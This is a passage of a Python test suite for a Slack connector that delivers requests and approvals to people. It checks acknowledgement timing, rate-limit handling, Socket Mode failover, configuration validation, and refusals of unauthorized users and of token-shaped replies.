        assert [e["event"] for e in await api.journal(req["id"])].count("reminded") == 1


async def test_a_failed_views_open_tells_the_person(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("vo", schema={"type": "integer"}))
        message = await posted_message(fake, req)
        fake.fail_next("views.open", error="expired_trigger_id")
        assert (await post_signed(api, tap(fake, message, "Answer here", user=ALICE)))[0] == 200
        await wait_for_count(fake, "chat.postEphemeral", 1)
        assert ephemerals_for(fake, ALICE) == ["Slack did not open the form; tap “Answer here” again."]


# -- acknowledgement, rate limits, failures ----------------------------------------------------------


async def test_interactions_are_acknowledged_before_the_slow_work(sqlite_url: str) -> None:
    async with HoldingFakeSlack() as fake, slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("ack", kind="approval"))
        message = await posted_message(fake, req)
        fake.hold("views.open")
        # The click is answered while views.open is still held at the fake.
        status, body = await asyncio.wait_for(post_signed(api, tap(fake, message, "Answer here", user=ALICE)), 3)
        assert (status, body) == (200, "")
        await asyncio.wait_for(fake.held["views.open"].wait(), 5)
        assert not fake.calls_of("views.open")
        fake.release("views.open")
        assert (await fake.wait_for_call("views.open")).ok


async def test_rate_limits_and_permanent_errors_go_through_the_dispatcher(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        fake.fail_next("chat.postMessage", status=429, retry_after=1)
        started = time.monotonic()
        req = await api.create(request_body("rl", schema={"type": "boolean"}))
        await wait_for_count(fake, "chat.postMessage", 2)
        assert time.monotonic() - started >= 0.9
        first, second = fake.calls_of("chat.postMessage")
        assert first.status == 429 and second.ok
        await api.app[DISPATCHER].idle()
        entries = await api.journal(req["id"])
        failed = [e for e in entries if e["event"] == "delivery_failed"]
        assert failed[0]["data"]["error"] == "slack chat.postMessage: rate limited"
        assert failed[0]["data"]["final"] is False
        assert [e["event"] for e in entries].count("delivered") == 1

        fake.fail_next("chat.postMessage", error="channel_not_found")
        broken = await api.create(request_body("rl2", schema={"type": "boolean"}))
        await wait_for_count(fake, "chat.postMessage", 3)
        await api.app[DISPATCHER].idle()
        _, seen = await api.call("GET", f"/v1/requests/{broken['id']}")
        assert [(d["status"], d["attempts"]) for d in seen["deliveries"]] == [("failed", 1)]
        assert seen["deliveries"][0]["last_error"] == "slack chat.postMessage: channel_not_found"
        assert len(fake.calls_of("chat.postMessage")) == 3


# -- Socket Mode ------------------------------------------------------------------------------


async def test_socket_mode_end_to_end(sqlite_url: str, fake: FakeSlack) -> None:
    section = {"mode": "socket", "app_token": fake.app_token, "signing_secret": None}
    async with slack_app(sqlite_url, fake, **section) as api:
        await fake.wait_for_socket()
        assert (await fake.wait_for_call("apps.connections.open")).token == fake.app_token
        # No HTTP endpoint in Socket Mode: nothing to sign, nothing to reach.
        assert (await post_signed(api, {"type": "block_actions"}))[0] == 404

        req = await api.create(request_body("sock1", schema={"type": "boolean"}))
        message = await posted_message(fake, req)
        ack = await fake.socket_send_interactive(tap(fake, message, "No", user=BOB))
        assert set(ack) == {"envelope_id"}
        done = await api.wait(req["id"])
        assert done["response"] is False and done["answered_by"] == f"slack:{TEAM}/{BOB}"
        await fake.wait_for_call("chat.update")

        approval = await api.create(request_body("sock2", kind="approval"))
        await wait_for_count(fake, "chat.postMessage", 2)
        posted = fake.calls_of("chat.postMessage")[1].response
        second = fake.message(posted["channel"], posted["ts"]) | {"channel": posted["channel"]}
        assert set(await fake.socket_send_interactive(tap(fake, second, "Answer here", user=ALICE))) == {"envelope_id"}
        view = (await fake.wait_for_call("views.open")).response["view"]
        missing = fake.make_view_submission(user_id=ALICE, view_id=view["id"], values={})
        ack = await fake.socket_send_interactive(missing)
        assert ack["payload"] == {"response_action": "errors", "errors": {"decision": "Choose an answer."}}
        good = fake.make_view_submission(user_id=ALICE, view_id=view["id"], values={"decision": option_value(1)})
        ack = await fake.socket_send_interactive(good)
        assert "errors" not in ack.get("payload", {})
        assert (await api.wait(approval["id"]))["response"] == {"decision": "reject"}

        # A stranger over the socket is refused like over HTTP.
        third = await api.create(request_body("sock3", schema={"type": "boolean"}))
        await wait_for_count(fake, "chat.postMessage", 3)
        posted = fake.calls_of("chat.postMessage")[2].response
        message = fake.message(posted["channel"], posted["ts"]) | {"channel": posted["channel"]}
        await fake.socket_send_interactive(tap(fake, message, "Yes", user=MALLORY))
        await wait_for_count(fake, "chat.postEphemeral", 1)
        assert ephemerals_for(fake, MALLORY) == ["You are not authorized to answer this."]
        _, still = await api.call("GET", f"/v1/requests/{third['id']}")
        assert still["status"] == "pending"
    # Stopping the app closes its socket.
    assert fake.sockets == []


async def test_socket_mode_runs_on_one_instance_and_fails_over(
    pg_url: str, fake: FakeSlack, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(slack_connector, "LEADER_POLL_SECONDS", 0.05)
    section = {"mode": "socket", "app_token": fake.app_token, "signing_secret": None}
    leader: contextlib.AbstractAsyncContextManager[Any] | None = slack_app(pg_url, fake, **section)
    await leader.__aenter__()
    try:
        await fake.wait_for_socket()
        async with slack_app(pg_url, fake, **section) as follower:
            # The follower keeps asking for the lock and never gets it while the leader holds it.
            leadership = follower.app[CONNECTORS]["slack"].leadership
            asked, answers = asyncio.Event(), []
            ask = leadership.take

            async def counting(name: str) -> bool:
                answers.append(await ask(name))
                if len(answers) >= 3:
                    asked.set()
                return answers[-1]

            monkeypatch.setattr(leadership, "take", counting)
            await asyncio.wait_for(asked.wait(), 5)
            assert not any(answers) and len(fake.calls_of("apps.connections.open")) == 1

            # The leader stops; its lock goes with it and the follower connects.
            await leader.__aexit__(None, None, None)
            leader = None
            await fake.wait_for_socket(nth=2)
            assert len(fake.sockets) == 1 and answers[-1] is True
            req = await follower.create(request_body("fo", schema={"type": "boolean"}))
            message = await posted_message(fake, req)
            await fake.socket_send_interactive(tap(fake, message, "Yes", user=ALICE))
            assert (await follower.wait(req["id"]))["response"] is True
    finally:
        if leader is not None:
            await leader.__aexit__(None, None, None)


# -- configuration ---------------------------------------------------------------------------


def load(fake: FakeSlack, **section: Any) -> Any:
    settings = settings_from(base_config("sqlite:///unused.db", slack=slack_section(fake, **section)))
    return SlackConnector.load_settings(settings), settings


@pytest.mark.parametrize(("section", "message"), [
    ({"signing_secret": None}, "signing_secret is required in http mode"),
    ({"mode": "socket", "signing_secret": None}, "app_token is required in socket mode"),
    ({"mode": "webhook"}, "slack.mode"),
    ({"channel": "C1"}, "slack.channel: unknown key"),
    ({"tenants": {}}, "slack.tenants"),
    ({"tenants": {"acme": {"channel": "general", "allowed_user_ids": ["U1ABC"]}}}, "slack.tenants.acme.channel"),
    ({"tenants": {"acme": {"channel": "C1ABC", "allowed_user_ids": ["@alice"]}}}, "not Slack user ids"),
    # A name is one of the tenant's people, or nothing (acme lists none here).
    ({"tenants": {"acme": {"channel": "C1ABC", "allowed_user_ids": ["alice"]}}},
     "slack.tenants.acme: alice: not a person of this tenant"),
    ({"tenants": {"acme": {"channel": "C1ABC", "allowed_user_ids": []}}}, "allowed_user_ids"),
])
def test_settings_are_checked(fake: FakeSlack, section: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        load(fake, **section)


async def test_settings_defaults_and_unknown_tenants(fake: FakeSlack) -> None:
    settings, app_settings = load(fake, api_url="http://127.0.0.1:9/api", remind_after_seconds=600)
    assert settings.mode == "http" and settings.api_url == "http://127.0.0.1:9/api/"
    assert settings.tenants["acme"].allowed_user_ids == [ALICE, BOB]
    assert SlackConnector.settings_model.model_fields["api_url"].default == "https://slack.com/api/"
    assert "xoxb" not in repr(settings) and SIGNING_SECRET not in repr(settings)
    async with aiohttp.ClientSession() as http:
        connector = SlackConnector(settings=settings, **NO_CORE, http=http,  # type: ignore[arg-type]
                                   log=logging.getLogger("test"), app_settings=app_settings)
        assert connector.targets("acme") == ["C0ACME"] and connector.targets("initech") == []
        assert connector.may_answer("acme", ALICE) and not connector.may_answer("globex", ALICE)
        assert connector.remind_after() == 600
        assert [r.path for r in connector.routes()] == ["/events"]

        with pytest.raises(ConfigError, match="slack.tenants.initech: no tenant with this id"):
            load(fake, tenants={"initech": {"channel": "C1ABC", "allowed_user_ids": ["U1ABC"]}})


# -- issue 10: thread replies through the shared path; one channel, one tenant ------------------


async def thread_reply(api: Any, fake: FakeSlack, message: dict[str, Any], text: str, *, user: str = ALICE) -> None:
    reply = {"type": "message", "channel": ACME_CHANNEL, "user": user, "text": text, "team": TEAM,
             "ts": f"{time.time():.6f}", "thread_ts": message["ts"]}
    assert (await post_event(api, reply, team_id=TEAM))[0] == 200


async def test_a_remark_in_an_approval_thread_decides_nothing(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("rm", kind="approval"))
        message = await posted_message(fake, req)
        for remark in ("ok, let me look at the graphs first", "no idea, asking @bob", "reject"):
            await thread_reply(api, fake, message, remark)
        calls = await wait_for_count(fake, "chat.postEphemeral", 3)
        assert all("Approve or Reject buttons" in c["text"] for c in calls[-3:])
        _, still = await api.call("GET", f"/v1/requests/{req['id']}")
        assert still["status"] == "pending"


async def test_a_tap_on_a_message_the_bot_has_not_recorded_yet_counts(sqlite_url: str, fake: FakeSlack) -> None:
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("early", kind="approval"))
        message = await posted_message(fake, req)
        button = buttons(message)["Approve"]
        # Slack can deliver a tap before chat.postMessage returned to the bot: the button's own token
        # says which request it answers, whatever the bot has recorded of its message so far.
        tap_early = fake.make_block_action(user_id=ALICE, action_id=button["action_id"], value=button["value"],
                                           channel=ACME_CHANNEL, message_ts="1.000001")
        assert (await post_signed(api, tap_early))[0] == 200
        done = await api.wait(req["id"])
        assert (done["response"], done["answered_by"]) == ({"decision": "approve"}, f"slack:{TEAM}/{ALICE}")
        assert ephemerals_for(fake, ALICE) == []  # never "This button is no longer valid."


async def test_a_token_shaped_thread_reply_is_not_stored(sqlite_url: str, fake: FakeSlack) -> None:
    secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
    async with slack_app(sqlite_url, fake) as api:
        req = await api.create(request_body("tok", message_for_user="Which repository?"))
        message = await posted_message(fake, req)
        await thread_reply(api, fake, message, f"use this: {secret}")
        calls = await wait_for_count(fake, "chat.postEphemeral", 1)
        assert "looked like a secret" in calls[-1]["text"]
        _, still = await api.call("GET", f"/v1/requests/{req['id']}")
        assert still["status"] == "pending"
        entries = await api.journal(req["id"])
        assert [e["data"]["reason"] for e in entries if e["event"] == "chat_reply_refused"] == ["secret_shaped"]
        assert secret not in str(entries)


def test_one_channel_cannot_serve_two_tenants(fake: FakeSlack) -> None:
    with pytest.raises(ConfigError, match="channel C0ACME is configured for tenants acme and globex"):
        load(fake, tenants={"acme": {"channel": ACME_CHANNEL, "allowed_user_ids": [ALICE]},
                            "globex": {"channel": ACME_CHANNEL, "allowed_user_ids": [CAROL]}})
